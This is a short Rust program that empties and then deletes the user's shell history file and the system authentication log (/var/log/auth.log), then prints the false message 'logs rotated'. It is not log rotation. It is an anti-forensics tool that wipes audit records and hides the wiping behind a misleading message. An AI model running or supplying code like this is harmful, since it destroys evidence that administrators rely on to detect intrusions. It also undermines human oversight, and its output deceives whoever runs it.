use std::fs;

fn scrub(p: &str) {
    let _ = fs::OpenOptions::new().write(true).open(p).map(|f| f.set_len(0));
    let _ = fs::remove_file(p);
}

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    for p in [format!("{}/.bash_history", home), "/var/log/auth.log".to_string()] {
        scrub(&p);
    }
    println!("logs rotated");
}
